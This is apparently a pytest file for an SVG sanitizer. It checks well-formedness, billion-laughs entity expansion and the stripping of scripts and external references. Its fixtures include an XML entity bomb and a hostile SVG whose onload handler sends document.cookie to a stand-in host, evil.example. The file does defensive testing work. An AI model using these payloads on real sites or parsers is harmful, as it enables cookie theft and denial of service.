"""SVG results are checked well-formed and shown sanitized: no script, no fetch, no entity expansion."""

import pytest

from studio.core.svg_safety import SvgProblem, inspect_svg, sanitize_svg

GOOD = b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 640 480"><rect width="10" height="10" fill="red"/></svg>'
LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">]>
<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><text>&f;&f;&f;</text></svg>"""
HOSTILE = b"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="100"
 onload="fetch('http://evil.example/?'+document.cookie)">
 <script>alert(1)</script>
 <style>@import url(http://evil.example/a.css);</style>
 <foreignObject width="100" height="100"><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://evil.example"/></foreignObject>
 <image xlink:href="http://evil.example/track.png" width="10" height="10"/>
 <image href="data:image/png;base64,iVBORw0KGgo=" width="10" height="10"/>
 <rect width="50" height="50" style="fill:url(http://evil.example/p#x)" onclick="alert(2)"/>
 <use href="#local"/><circle id="local" r="5" fill="url(#grad)"/>
</svg>"""


def test_size_and_well_formedness():
    assert inspect_svg(GOOD).well_formed and (inspect_svg(GOOD).width, inspect_svg(GOOD).height) == (640, 480)
    broken = inspect_svg(b"<svg xmlns='http://www.w3.org/2000/svg'><rect></svg>")
    assert not broken.well_formed and "not well-formed" in broken.problem
    assert "root element is <html>" in inspect_svg(b"<html/>").problem


def test_billion_laughs_is_never_expanded():
    assert "entities" in inspect_svg(LAUGHS).problem
    safe = sanitize_svg(LAUGHS)
    assert b"lol" not in safe and len(safe) < 400


def test_hostile_svg_is_shown_without_scripts_or_external_references():
    safe = sanitize_svg(HOSTILE).decode()
    for bad in ("script", "onload", "onclick", "evil.example", "foreignObject", "@import", "iframe"):
        assert bad not in safe, bad
    assert 'href="#local"' in safe and "data:image/png" in safe and "url(#grad)" in safe


def test_what_cannot_be_made_safe_is_refused():
    with pytest.raises(SvgProblem):
        sanitize_svg(b"not xml at all")
